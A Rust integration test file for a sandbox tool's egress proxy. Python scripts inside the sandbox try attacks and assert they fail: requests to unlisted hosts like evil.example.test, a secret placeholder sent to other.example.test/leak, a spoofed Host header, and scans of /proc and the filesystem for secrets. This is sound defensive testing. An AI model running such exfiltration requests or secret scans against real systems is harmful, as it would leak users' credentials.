//! The egress proxy and allow-list from inside a sandbox (docs/security.md,
//! "Egress"): a loopback HTTPS upstream on the host with its own CA (given
//! to the proxy with `[proxy] ca_file`, its name pointed at it with
//! `[proxy] resolve`), then attacks from the sandbox — a direct connection,
//! a proxied request to an unlisted host, DNS, another sandbox reaching for
//! the proxy, `/proc` — each checked to fail beside a request that works.

#[macro_use]
mod common;

use std::process::Command;
use std::time::Duration;

use common::upstream::{listening_on, spawn_for_first_line, start_upstream, API, FIND_NEEDLE};
use common::*;

/// This test's agentkernel processes running `subcommand` (their
/// environment names the test's state directory), with their parent PIDs.
fn processes_of(env: &TestEnv, subcommand: &str) -> Vec<(u32, String)> {
    let marker = format!("AGENTKERNEL_HOME={}", env.state_dir().display());
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter_map(|pid| {
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
            let environ = std::fs::read(format!("/proc/{pid}/environ")).ok()?;
            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
            let ppid = stat.rsplit(") ").next()?.split(' ').nth(1)?.to_string();
            (String::from_utf8_lossy(&cmdline).contains(subcommand)
                && environ.split(|b| *b == 0).any(|v| v == marker.as_bytes()))
            .then_some((pid, ppid))
        })
        .collect()
}

fn proxies_of(env: &TestEnv) -> Vec<u32> {
    processes_of(env, "__egress-proxy")
        .into_iter()
        .map(|(pid, _)| pid)
        .collect()
}

/// The holder of this test's kept sandbox: its native helper process that
/// was reparented (the sandbox's init is its child).
fn holder_of(env: &TestEnv) -> u32 {
    processes_of(env, "__native-sandbox")
        .into_iter()
        .find(|(_, ppid)| ppid == "1")
        .expect("the kept sandbox's holder")
        .0
}

/// A host address that is not loopback (the sandbox's direct target).
fn host_address() -> String {
    let out = Command::new("hostname").arg("-I").output().unwrap();
    stdout(&out)
        .split_whitespace()
        .next()
        .expect("the host has a non-loopback address")
        .to_string()
}

/// The upstream's CA at /upstream/ca.pem in the sandbox: its directory,
/// read-only (a VM shares directories, not single files).
fn ca_volume(upstream: &common::upstream::Upstream) -> String {
    format!("{}:/upstream:ro", upstream.ca().parent().unwrap().display())
}

/// In the first sandbox: its proxy answers on its loopback; then it stays.
const FIRST: &str = "import socket, time
socket.create_connection(('127.0.0.1', 3128), 2)
print('proxy-here', flush=True)
time.sleep(30)";

/// The sandbox's default gateway (Python, from /proc/net/route).
const GATEWAY: &str = "import socket, struct
gw = [socket.inet_ntoa(struct.pack('<I', int(f[2], 16))) for f in
      (l.split() for l in open('/proc/net/route').read().splitlines()[1:]) if f[1] == '00000000'][0]
";

/// In a sandbox with secrets only (its network kept): its proxy answers on
/// its loopback; it prints its own address on the network; then it stays.
const FIRST_ON_THE_NETWORK: &str = "import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect((gw, 9))
socket.create_connection(('127.0.0.1', 3128), 2)
print('proxy-here', u.getsockname()[0], flush=True)
time.sleep(30)";

/// In the second sandbox: the same port on its loopback, on its gateway
/// and at the addresses given as arguments.
const PROBE: &str = "import sys
for host in ['127.0.0.1', gw] + sys.argv[1:]:
    try:
        socket.create_connection((host, 3128), 2)
        print('reached', host)
    except OSError:
        print('refused', host)";

/// With an allow-list: the listed host is reached through the proxy
/// (uninspected: the sandbox verifies the upstream itself), an unlisted
/// one gets the proxy's 403 naming the flag, and a direct connection, a
/// name lookup and the proxy's /proc all fail.
fn with_an_allow_list_only_listed_hosts_are_reachable_and_only_through_the_proxy() {
    let env = TestEnv::new();
    let upstream = start_upstream();
    let config = upstream.config(&env, "");
    let log = env.project_dir().join("egress.jsonl");
    let (_listener, direct) = listening_on(&host_address());
    let script = format!(
        r#"
import os, socket, ssl, urllib.request
ctx = ssl.create_default_context(cafile="/upstream/ca.pem")
print("listed", urllib.request.urlopen("https://{API}/listed", context=ctx, timeout=10).read())
try:
    urllib.request.urlopen("https://evil.example.test/", context=ctx, timeout=10)
except Exception as e:
    print("unlisted", e)
try:
    urllib.request.urlopen("http://evil.example.test/", timeout=10)
except urllib.error.HTTPError as e:
    print("unlisted-http", e.code, e.read().decode().strip())
h, p = "{direct}".rsplit(":", 1)
try:
    socket.create_connection((h, int(p)), timeout=3)
    print("direct CONNECTED")
except OSError as e:
    print("direct failed", e.errno)
try:
    socket.getaddrinfo("example.com", 443)
    print("dns RESOLVED")
except OSError as e:
    print("dns failed")
cmdlines = [open("/proc/%s/cmdline" % p, "rb").read() for p in os.listdir("/proc") if p.isdigit()]
needle = b"__egress" + b"-proxy"  # split: this script's own cmdline must not match
print("proxy visible" if any(needle in c for c in cmdlines) else "proxy not visible", len(cmdlines) > 0)
"#
    );
    let out = env.run(&[
        "run",
        "-c",
        config.to_str().unwrap(),
        "--image",
        PYTHON,
        "--allow-host",
        API,
        "--egress-log",
        log.to_str().unwrap(),
        "-v",
        &ca_volume(&upstream),
        "--",
        "python3",
        "-c",
        &script,
    ]);
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(text.contains("listed b'ok\\n'"), "{text}");
    assert!(
        text.contains("unlisted <urlopen error Tunnel connection failed: 403"),
        "{text}"
    );
    assert!(
            text.contains("unlisted-http 403 agentkernel: egress to evil.example.test is not allowed; add --allow-host evil.example.test to allow it"),
            "{text}"
        );
    assert!(text.contains("direct failed"), "{text}");
    assert!(text.contains("dns failed"), "{text}");
    assert!(text.contains("proxy not visible True"), "{text}");
    assert!(
        upstream.seen().contains("GET /listed"),
        "{}",
        upstream.seen()
    );
    assert!(!upstream.seen().contains("evil"));
    let log = std::fs::read_to_string(&log).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("\"kind\":\"tunnel\"") && l.contains(API)),
        "{log}"
    );
    assert_eq!(
        log.lines()
            .filter(|l| l.contains("\"kind\":\"deny\""))
            .count(),
        2,
        "{log}"
    );
    // The proxy ends with the run.
    assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
}

/// The proxy listens on the first sandbox's own loopback: a second
/// sandbox (with a network) and the host find nothing there.
fn another_sandbox_and_the_host_cannot_reach_a_sandbox_proxy() {
    let env = TestEnv::new();
    let upstream = start_upstream();
    let config = upstream.config(&env, "");
    let (mut first, line) = spawn_for_first_line(
        env.std_cmd()
            .args(["run", "-c", config.to_str().unwrap(), "--image", PYTHON])
            .args(["--allow-host", API, "--", "python3", "-c", FIRST]),
    );
    assert_eq!(line.trim(), "proxy-here");
    let owner = owner_label(first.id()).unwrap();
    assert_eq!(proxies_of(&env).len(), 1);
    let probe = format!("{GATEWAY}{PROBE}");
    let second = env.run(&["run", "--image", PYTHON, "--", "python3", "-c", &probe]);
    assert_code(&second, 0);
    let text = stdout(&second);
    assert!(!text.contains("reached"), "{text}");
    assert_eq!(text.matches("refused").count(), 2, "{text}");
    assert!(std::net::TcpStream::connect("127.0.0.1:3128").is_err());
    // kill -9 of the sandbox's owner: the lifeline closes, the proxy exits.
    let _ = first.kill();
    let _ = first.wait();
    assert!(
        wait_until(Duration::from_secs(10), || proxies_of(&env).is_empty()),
        "the proxy outlived its sandbox's owner"
    );
    // What the killed run left, gc removes.
    assert_code(&env.run(&["sandbox", "gc"]), 0);
    assert!(containers_of_owner(&owner).is_empty());
}

/// With secrets only, the sandbox keeps its network and an address on it:
/// a second sandbox on the same network finds no proxy there either (it
/// listens on the first one's loopback alone).
fn another_sandbox_cannot_reach_a_proxy_at_its_sandboxs_address() {
    let env = TestEnv::new();
    let first_script = format!("{GATEWAY}{FIRST_ON_THE_NETWORK}");
    let (mut first, line) = spawn_for_first_line(
        env.std_cmd()
            .args(["run", "--image", PYTHON, "-S", "K=v:api.example.test"])
            .args(["--", "python3", "-c", &first_script]),
    );
    let address = line.trim().strip_prefix("proxy-here ").unwrap().to_string();
    let probe = format!("{GATEWAY}{PROBE}");
    let second = env.run(&[
        "run", "--image", PYTHON, "--", "python3", "-c", &probe, &address,
    ]);
    let _ = first.kill();
    let _ = first.wait();
    assert_code(&second, 0);
    let text = stdout(&second);
    assert!(!text.contains("reached"), "{text}");
    assert!(text.contains(&format!("refused {address}")), "{text}");
    assert!(wait_until(Duration::from_secs(10), || proxies_of(&env).is_empty()));
}

/// The value reaches its host as `Authorization: Bearer`, and nothing
/// else: not the sandbox (env, files, /proc), not a spoofed Host, not a
/// redirect's target, not another host through a placeholder.
fn a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts() {
    const VALUE: &str = "sk-e2e-4f1d2c3b5a697887";
    let env = TestEnv::new();
    let upstream = start_upstream();
    let config = upstream.config(&env, "");
    let binding = format!("API_KEY={VALUE}:{API}");
    let script = format!(
            "{INJECTION}\nimport subprocess\n\
             print('grep', subprocess.run(['grep', '-rlsF', '{VALUE}', '/', '--exclude-dir=sys'], capture_output=True).stdout)"
        );
    let out = env.run(&[
        "run",
        "-c",
        config.to_str().unwrap(),
        "--image",
        PYTHON,
        "-S",
        &binding,
        "--placeholder-secrets",
        "-v",
        &ca_volume(&upstream),
        "--",
        "python3",
        "-c",
        &script,
    ]);
    assert_code(&out, 0);
    let text = stdout(&out);
    for line in [
        "env True",
        "urllib b'ok\\n'",
        "spoofed 421",
        "redirect b'ok\\n'",
        "placeholder-elsewhere 403",
        "grep b''",
    ] {
        assert!(text.lines().any(|l| l == line), "no {line:?} in:\n{text}");
    }
    let seen = upstream.seen();
    let requests: Vec<&str> = seen.split("GET ").skip(1).collect();
    let urllib = requests.iter().find(|r| r.starts_with("/urllib")).unwrap();
    assert!(
        urllib.contains(&format!("authorization: Bearer {VALUE}")),
        "{urllib}"
    );
    // The placeholder in the query was swapped for the value (bound host).
    assert!(
        urllib.starts_with(&format!("/urllib?k={VALUE} ")),
        "{urllib}"
    );
    let landed = requests.iter().find(|r| r.starts_with("/landed")).unwrap();
    assert!(!landed.contains(VALUE), "{landed}");
    assert!(
        !seen.contains("/spoof") && !seen.contains("/plain"),
        "{seen}"
    );
    // Every request that carries the value went to the bound host.
    for request in requests.iter().filter(|r| r.contains(VALUE)) {
        assert!(
            request
                .to_ascii_lowercase()
                .contains("host: api.example.test"),
            "{request}"
        );
    }
}

/// A kept sandbox's proxy serves its later commands — the secret bound at
/// creation is injected into an `exec`'s request — and ends with the
/// sandbox: on `sandbox rm`, and on `kill -9` of what holds it (native: its
/// holder; Docker/Podman: the container's init). The value is in nothing
/// the host keeps about the sandbox (its state files, `docker inspect`).
fn a_kept_sandboxs_proxy_lives_exactly_as_long_as_the_sandbox() {
    const VALUE: &str = "sk-e2e-kept-9a1c77d2";
    const REFUSED: &str = "import urllib.request, urllib.error
try:
    urllib.request.urlopen('http://evil.example.test/', timeout=10)
except urllib.error.HTTPError as e:
    print('refused', e.code)";
    const INJECTED: &str = "import urllib.request
print(urllib.request.urlopen('https://api.example.test/kept-exec', timeout=10).read())";
    let env = TestEnv::new();
    let upstream = start_upstream();
    let config = upstream.config(&env, "");
    for how in ["rm", "kill"] {
        let name = unique_name(&format!("egress-{how}"));
        let guard = KeptGuard::new(&name);
        let out = env.run(&[
            "run",
            "-c",
            config.to_str().unwrap(),
            "--name",
            &name,
            "--image",
            PYTHON,
            "--allow-host",
            "pypi.org",
            "-S",
            &format!("API_KEY={VALUE}:{API}"),
            "--",
            "python3",
            "-c",
            REFUSED,
        ]);
        assert_code(&out, 0);
        assert_eq!(stdout(&out).trim(), "refused 403");
        let out = env.run(&["exec", &name, "--", "python3", "-c", REFUSED]);
        assert_code(&out, 0);
        assert_eq!(stdout(&out).trim(), "refused 403");
        let out = env.run(&["exec", &name, "--", "python3", "-c", INJECTED]);
        assert_code(&out, 0);
        assert_eq!(stdout(&out).trim(), "b'ok\\n'");
        assert!(
            upstream
                .seen()
                .contains(&format!("authorization: Bearer {VALUE}")),
            "{}",
            upstream.seen()
        );
        assert_eq!(proxies_of(&env).len(), 1);
        let kept = what_the_host_keeps_about(&env, &guard);
        assert!(
            kept.contains("AGENTKERNEL_PLACEHOLDER_"),
            "nothing read about {name}"
        );
        assert!(!kept.contains(VALUE), "the value is kept on the host");
        // Reusing it with egress options would not apply them: refused.
        let out = env.run(&[
            "run",
            "--branch",
            "--name",
            &name,
            "--image",
            PYTHON,
            "--allow-host",
            "x.test",
            "true",
        ]);
        assert_one_line_error(&out);
        if how == "rm" {
            assert_code(&env.run(&["sandbox", "rm", &name]), 0);
        } else {
            let holder = kept_sandbox_holder(&env, &guard);
            // SAFETY: kill(2) of a process this test started.
            assert_eq!(unsafe { libc::kill(holder as i32, libc::SIGKILL) }, 0);
        }
        assert!(
            wait_until(Duration::from_secs(10), || proxies_of(&env).is_empty()),
            "{name}: the proxy outlived its sandbox"
        );
    }
}

/// The process whose end is the kept sandbox's end: native's holder, an
/// engine container's init.
fn kept_sandbox_holder(env: &TestEnv, guard: &KeptGuard) -> u32 {
    if is_native() {
        return holder_of(env);
    }
    if backend() == "qemu" {
        let state = env.state_dir().to_str().unwrap();
        return qemu_holder_of(state, &guard.container()).expect("the kept VM's holder");
    }
    let pid = engine_ok(&["inspect", "-f", "{{.State.Pid}}", &guard.container()]);
    pid.trim().parse().unwrap()
}

/// Everything the host keeps about a kept sandbox: native's state files
/// (not what is mounted beneath them — the sandbox's own root, /proc… —
/// nor its sparse disk images, which hold the sandbox's own files), the
/// engine's view of the container (config, env, labels, mounts).
fn what_the_host_keeps_about(env: &TestEnv, guard: &KeptGuard) -> String {
    use std::os::unix::fs::MetadataExt;
    if !uses_own_image_store() {
        return engine_ok(&["inspect", &guard.container()]);
    }
    let device = std::fs::metadata(env.state_dir()).unwrap().dev();
    let mut all = String::new();
    let mut dirs = vec![env.state_dir().to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let path = entry.path();
            let Ok(meta) = std::fs::symlink_metadata(&path) else {
                continue;
            };
            if meta.dev() != device {
                continue;
            }
            if meta.is_dir() {
                dirs.push(path);
            } else if meta.is_file() && meta.len() < 1 << 20 {
                all.push_str(&String::from_utf8_lossy(
                    &std::fs::read(&path).unwrap_or_default(),
                ));
            }
        }
    }
    all
}

/// `-S` end to end: the upstream gets the real value in the bound
/// headers; the sandbox holds only placeholders (its variable, and the
/// `--secret-file` with `--placeholder-secrets`); the placeholder aimed
/// at another host is refused and that host never sees it; nothing the
/// sandbox can read — files from `/`, every process's environment and
/// command line — holds the value.
fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
    let env = TestEnv::new();
    let upstream = start_upstream();
    // One key from `-S`, one from `[secrets]` (upstream's template form).
    let config = upstream.config(
        &env,
        &format!("[secrets]\nHDR_KEY = {{ hosts = [\"{API}\"], header = \"x-api-key\" }}\n"),
    );
    let (head, tail) = ("sk-e2e-real-", "6b1f9a");
    let value = format!("{head}{tail}");
    let out = env
        .cmd()
        .args(["secret", "set", "API_KEY"])
        .write_stdin(format!("{value}\n"))
        .output()
        .unwrap();
    assert_code(&out, 0);
    // The script names the value only in two halves, so its own command
    // line cannot be what the scan finds.
    let script = format!(
        r#"
import os, urllib.request
key = os.environ["API_KEY"]
print("env", key.startswith("AGENTKERNEL_PLACEHOLDER_"), len(key))
print("file", open(os.environ["AGENTKERNEL_SECRETS_PATH"] + "/API_KEY").read() == key)
req = urllib.request.Request("https://{API}/bound", headers={{"Authorization": "Bearer " + key}})
print("bound", urllib.request.urlopen(req, timeout=10).read())
try:
    urllib.request.urlopen("https://other.example.test/leak?k=" + key, timeout=10)
    print("leak SENT")
except Exception as e:
    print("leak refused")
needle = b"{head}" + b"{tail}"
{FIND_NEEDLE}
"#
    );
    // HDR_KEY's value comes from agentkernel's own environment.
    let out = env
        .cmd()
        .env("HDR_KEY", "hdr-e2e-value-3c")
        .args([
            "run",
            "-c",
            config.to_str().unwrap(),
            "--image",
            PYTHON,
            "-S",
            &format!("API_KEY:{API}"),
            "--secret-file",
            "API_KEY",
            "--placeholder-secrets",
            "--",
            "python3",
            "-c",
            &script,
        ])
        .output()
        .unwrap();
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(text.contains("env True 56"), "{text}");
    assert!(text.contains("file True"), "{text}");
    assert!(text.contains("bound b'ok\\n'"), "{text}");
    assert!(text.contains("leak refused"), "{text}");
    assert!(text.contains("found []"), "{text}");
    let seen = upstream.seen().to_ascii_lowercase();
    assert!(
        seen.contains(&format!("authorization: bearer {value}")),
        "{seen}"
    );
    assert!(seen.contains("x-api-key: hdr-e2e-value-3c"), "{seen}");
    assert!(!seen.contains("/leak"), "{seen}");
    assert!(!seen.contains("agentkernel_placeholder_"), "{seen}");
    assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
}

fn bad_egress_options_are_one_line_errors() {
    let env = TestEnv::new();
    for (args, needle) in [
        (vec!["--allow-host", "bad host"], "--allow-host"),
        (vec!["--allow-host", "example.com:0"], "bad port"),
        (
            vec!["--allow-host", "example.com", "--no-network"],
            "need a network",
        ),
        (
            vec!["--allow-host", "example.com", "-P", "8080:80"],
            "--publish",
        ),
    ] {
        let out = env.run(&[&["run"][..], &args, &["--image", BUSYBOX, "true"]].concat());
        let line = assert_one_line_error(&out);
        assert!(line.contains(needle), "{args:?}: {line}");
        assert!(env.leftover_runs().is_empty(), "{args:?}");
        assert!(proxies_of(&env).is_empty(), "{args:?}");
    }
}

/// A run with a proxy starts its command only once the proxy listens (on
/// the engines, an exec into a started container): stdin, exit codes, the
/// timeout's 124 and the memory limit's 137 are those of any run, and a
/// timed-out run leaves no sandbox and no proxy.
fn a_proxied_run_keeps_stdin_exit_codes_timeouts_and_oom() {
    let env = TestEnv::new();
    let proxied = ["--allow-host", API];
    let out = env
        .cmd()
        .args(["run"])
        .args(proxied)
        .args(["-i", BUSYBOX, "--", "sh", "-c", "cat; exit 3"])
        .write_stdin("from stdin\n")
        .output()
        .unwrap();
    assert_code(&out, 3);
    assert_eq!(stdout(&out), "from stdin\n");
    let (out, owner) = env.run_tracked(
        &[
            &["run"][..],
            &proxied,
            &["--timeout", "1s", "-i", BUSYBOX, "sleep", "30"],
        ]
        .concat(),
    );
    assert_code(&out, 124);
    assert!(containers_of_owner(&owner).is_empty());
    assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
    let script = "x=a; while :; do x=$x$x; done";
    let out = env.run(
        &[
            &["run"][..],
            &proxied,
            &[
                "--memory",
                "32m",
                "--timeout",
                "60s",
                "-i",
                BUSYBOX,
                "sh",
                "-c",
                script,
            ],
        ]
        .concat(),
    );
    assert_code(&out, 137);
    assert!(
        stderr(&out).to_lowercase().contains("out of memory"),
        "{}",
        stderr(&out)
    );
}

/// Inside a sandbox with `-S API_KEY=…:api.example.test`: Python's urllib
/// through the proxy (curl and Node's fetch: `mod clients` below).
const INJECTION: &str = r#"
import os, ssl, urllib.request, urllib.error
# The system bundle (with the proxy's CA, via SSL_CERT_FILE) plus the test
# upstream's own CA, for the redirect's unbound host (tunnelled, so the
# sandbox verifies it itself).
ctx = ssl.create_default_context()
ctx.load_verify_locations("/upstream/ca.pem")
urllib.request.install_opener(urllib.request.build_opener(urllib.request.HTTPSHandler(context=ctx)))
ph = os.environ["API_KEY"]
print("env", ph.startswith("AGENTKERNEL_PLACEHOLDER_"))
print("urllib", urllib.request.urlopen("https://api.example.test/urllib?k=" + ph, timeout=10).read())
r = urllib.request.Request("https://api.example.test/spoof", headers={"Host": "other.example.test"})
try:
    urllib.request.urlopen(r, timeout=10)
except urllib.error.HTTPError as e:
    print("spoofed", e.code)
print("redirect", urllib.request.urlopen("https://api.example.test/redirect", timeout=10).read())
try:
    urllib.request.urlopen("http://other.example.test/plain?k=" + ph, timeout=10)
except urllib.error.HTTPError as e:
    print("placeholder-elsewhere", e.code)
"#;

mod bundles_engine_only {
    use super::*;

    /// The image's bundles get the CA where their symlinks lead inside the
    /// container (a Debian path through a linked directory, a RHEL path
    /// through a relative link), and never through a mount: a bundle that
    /// resolves onto a bind of a host directory is refused, one line, and
    /// the host's file is untouched.
    #[test]
    fn the_ca_is_added_to_the_images_bundles_and_never_through_a_mount() {
        let env = TestEnv::new();
        let image = format!("{}:1", unique_name("agentkernel-test-bundles"));
        let maker = unique_name("bundles-maker");
        // The layout on the host, copied into a created (never started)
        // container that is committed as the image.
        let layout = tempfile::tempdir().unwrap();
        let at = |p: &str| layout.path().join(p);
        for dir in [
            "opt/certs",
            "etc/ssl",
            "etc/pki/tls/certs",
            "etc/pki/ca-trust/extracted/pem",
        ] {
            std::fs::create_dir_all(at(dir)).unwrap();
        }
        std::fs::write(at("opt/certs/ca-certificates.crt"), "DEBIAN-BUNDLE\n").unwrap();
        std::os::unix::fs::symlink("/opt/certs", at("etc/ssl/certs")).unwrap();
        let rhel = "etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem";
        std::fs::write(at(rhel), "RHEL-BUNDLE\n").unwrap();
        std::os::unix::fs::symlink(
            "../../ca-trust/extracted/pem/tls-ca-bundle.pem",
            at("etc/pki/tls/certs/ca-bundle.crt"),
        )
        .unwrap();
        let source = format!("{}/.", layout.path().display());
        let target = format!("{maker}:/");
        for step in [
            vec!["create", "--name", &maker, BUSYBOX, "true"],
            vec!["cp", &source, &target],
            vec!["commit", &maker, &image],
        ] {
            let done = engine(&step);
            if step[0] == "commit" || !done.status.success() {
                let _ = engine(&["rm", "-f", &maker]);
            }
            assert!(done.status.success(), "{step:?}: {}", stderr(&done));
        }
        let show = "cat /opt/certs/ca-certificates.crt /etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem /etc/agentkernel/ca-bundle.crt; \
            readlink /etc/pki/tls/certs/ca-bundle.crt";
        let out = env.run(&[
            "run",
            "--allow-host",
            API,
            "-i",
            &image,
            "--",
            "sh",
            "-c",
            show,
        ]);
        let host = tempfile::tempdir().unwrap();
        let host_bundle = host.path().join("ca-certificates.crt");
        std::fs::write(&host_bundle, "HOST-BUNDLE\n").unwrap();
        let mounted = env.run(&[
            "run",
            "--allow-host",
            API,
            "-v",
            &format!("{}:/opt/certs", host.path().display()),
            "-i",
            &image,
            "true",
        ]);
        let _ = engine(&["rmi", "-f", &image]);
        assert_code(&out, 0);
        let text = stdout(&out);
        let begin = "-----BEGIN CERTIFICATE-----";
        // Each bundle: the image's content, then the proxy's CA.
        let parts: Vec<&str> = text.split(begin).collect();
        assert_eq!(parts.len(), 4, "{text}");
        assert!(parts[0].starts_with("DEBIAN-BUNDLE\n"), "{text}");
        assert!(parts[1].contains("RHEL-BUNDLE\n"), "{text}");
        // /etc/agentkernel's bundle is the first system bundle plus the CA.
        assert!(parts[2].contains("DEBIAN-BUNDLE\n"), "{text}");
        assert!(
            text.ends_with("../../ca-trust/extracted/pem/tls-ca-bundle.pem\n"),
            "{text}"
        );
        let line = assert_one_line_error(&mounted);
        assert!(line.contains("/opt/certs"), "{line}");
        assert_eq!(
            std::fs::read_to_string(&host_bundle).unwrap(),
            "HOST-BUNDLE\n"
        );
        assert!(proxies_of(&env).is_empty());
    }
}

mod nonroot_engine_only {
    use super::*;
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;

    /// Binding inside a container's network namespace takes root: a
    /// non-root caller is refused before anything starts, one line.
    #[test]
    fn without_root_the_engines_refuse_egress_options() {
        assert_backend_in_scope();
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("project");
        std::fs::create_dir(&project).unwrap();
        for d in [dir.path(), &project] {
            std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        let out = Command::new(binary())
            .uid(4391)
            .gid(4391)
            .env("HOME", dir.path())
            .env("AGENTKERNEL_HOME", dir.path().join("state"))
            .env("AGENTKERNEL_BACKEND", backend())
            .current_dir(&project)
            .stdin(std::process::Stdio::null())
            .args(["run", "--allow-host", API, "-i", BUSYBOX, "true"])
            .output()
            .unwrap();
        let line = assert_one_line_error(&out);
        assert!(line.contains("without root"), "{line}");
    }
}

// Every test above holds on each backend with an egress proxy.
on_every_proxy_backend!(
    native_only, engine_only:
    with_an_allow_list_only_listed_hosts_are_reachable_and_only_through_the_proxy,
    another_sandbox_and_the_host_cannot_reach_a_sandbox_proxy,
    another_sandbox_cannot_reach_a_proxy_at_its_sandboxs_address,
    a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts,
    a_kept_sandboxs_proxy_lives_exactly_as_long_as_the_sandbox,
    a_bound_secret_reaches_its_host_and_never_the_sandbox,
    bad_egress_options_are_one_line_errors,
    a_proxied_run_keeps_stdin_exit_codes_timeouts_and_oom,
);

/// The clients users' code actually calls, unmodified: each reaches the bound
/// host through the proxy (the proxy variables, the CA bundle variables) and
/// the upstream sees the real value while the command had only `$API_KEY`'s
/// placeholder.
mod clients {
    use super::*;

    fn gets_the_secret_injected(image: &str, command: &[&str], path: &str) {
        let env = TestEnv::new();
        let upstream = start_upstream();
        let config = upstream.config(&env, "");
        let value = "sk-client-3e9d1c";
        let out = env.run(
            &[
                &[
                    "run",
                    "-c",
                    config.to_str().unwrap(),
                    "--image",
                    image,
                    "-S",
                    &format!("API_KEY={value}:{API}"),
                    "--",
                ][..],
                command,
            ]
            .concat(),
        );
        assert_code(&out, 0);
        assert_eq!(stdout(&out).trim(), "ok", "{}", stderr(&out));
        let seen = upstream.seen().to_ascii_lowercase();
        assert!(seen.contains(&format!("get {path} ")), "{seen}");
        assert!(
            seen.contains(&format!("authorization: bearer {value}")),
            "{seen}"
        );
    }

    pub(super) fn curl_gets_the_secret_injected() {
        gets_the_secret_injected(
            CURL,
            &["curl", "-sSf", "https://api.example.test/curl"],
            "/curl",
        );
    }

    fn node_fetch_gets_the_secret_injected() {
        gets_the_secret_injected(
                NODE,
                &[
                    "node",
                    "-e",
                    "fetch('https://api.example.test/node').then(r => r.text()).then(t => console.log(t.trim()))",
                ],
                "/node",
            );
    }

    on_every_proxy_backend!(
        native_only, engine_only:
        curl_gets_the_secret_injected,
        node_fetch_gets_the_secret_injected,
    );
}

/// The qemu backend (docs/qemu.md, "The egress proxy"): a one-shot VM's
/// agent listens on the proxy's port on the guest's loopback and carries
/// each connection over its port to the run, which hands it to the proxy on
/// the host; under an allow-list the VM has no NIC. The tests above that
/// hold for a one-shot VM, and the VM's own.
mod qemu_only {
    use super::*;

    #[test]
    fn with_an_allow_list_only_listed_hosts_are_reachable_and_only_through_the_proxy() {
        super::with_an_allow_list_only_listed_hosts_are_reachable_and_only_through_the_proxy()
    }

    #[test]
    fn another_sandbox_and_the_host_cannot_reach_a_sandbox_proxy() {
        super::another_sandbox_and_the_host_cannot_reach_a_sandbox_proxy()
    }

    #[test]
    fn another_sandbox_cannot_reach_a_proxy_at_its_sandboxs_address() {
        super::another_sandbox_cannot_reach_a_proxy_at_its_sandboxs_address()
    }

    #[test]
    fn a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts() {
        super::a_bound_secret_skips_spoofed_hosts_redirects_and_other_hosts()
    }

    #[test]
    fn bad_egress_options_are_one_line_errors() {
        super::bad_egress_options_are_one_line_errors()
    }

    #[test]
    fn a_kept_sandboxs_proxy_lives_exactly_as_long_as_the_sandbox() {
        super::a_kept_sandboxs_proxy_lives_exactly_as_long_as_the_sandbox()
    }

    #[test]
    fn a_proxied_run_keeps_stdin_exit_codes_timeouts_and_oom() {
        super::a_proxied_run_keeps_stdin_exit_codes_timeouts_and_oom()
    }

    #[test]
    fn curl_gets_the_secret_injected() {
        super::clients::curl_gets_the_secret_injected()
    }

    /// Under an allow-list the VM's only interface is `lo`, and bulk
    /// traffic on several connections at once crosses the tunnel whole
    /// (its window: acknowledgements keep it moving, never unbounded).
    #[test]
    fn under_an_allow_list_the_vm_has_only_loopback_and_bulk_traffic_crosses_whole() {
        let env = TestEnv::new();
        let upstream = start_upstream();
        let config = upstream.config(&env, "");
        let script = format!(
            r#"
import hashlib, os, ssl, threading, urllib.request
print("interfaces", sorted(os.listdir("/sys/class/net")))
ctx = ssl.create_default_context(cafile="/upstream/ca.pem")
want = hashlib.sha256(bytes(range(256)) * 8192).hexdigest()
results = []
def fetch():
    body = urllib.request.urlopen("https://{API}/big", context=ctx, timeout=60).read()
    results.append(hashlib.sha256(body).hexdigest() == want)
threads = [threading.Thread(target=fetch) for _ in range(3)]
[t.start() for t in threads]
[t.join() for t in threads]
print("whole", results)
"#
        );
        let out = env.run(&[
            "run",
            "-c",
            config.to_str().unwrap(),
            "--image",
            PYTHON,
            "--allow-host",
            API,
            "-v",
            &ca_volume(&upstream),
            "--",
            "python3",
            "-c",
            &script,
        ]);
        assert_code(&out, 0);
        let text = stdout(&out);
        assert!(text.contains("interfaces ['lo']"), "{text}");
        assert!(text.contains("whole [True, True, True]"), "{text}");
        assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
    }

    /// A VM behind the proxy with a secret file: the file is in the
    /// guest's tmpfs, the bound variable holds the placeholder, and the
    /// proxy ends with the run.
    #[test]
    fn secret_files_and_the_proxy_share_one_vm() {
        let env = TestEnv::new();
        let out = env.run(&[
            "run",
            "-S",
            "K=file-and-proxy-73e1:api.example.test",
            "--secret-file",
            "K",
            "-i",
            BUSYBOX,
            "--",
            "sh",
            "-c",
            "cat /run/agentkernel/secrets/K; echo; echo \"$K\"",
        ]);
        assert_code(&out, 0);
        let text = stdout(&out);
        let mut lines = text.lines();
        assert_eq!(lines.next(), Some("file-and-proxy-73e1"), "{text}");
        assert!(
            lines
                .next()
                .is_some_and(|l| l.starts_with("AGENTKERNEL_PLACEHOLDER_")),
            "{text}"
        );
        assert!(wait_until(Duration::from_secs(5), || proxies_of(&env).is_empty()));
    }
}
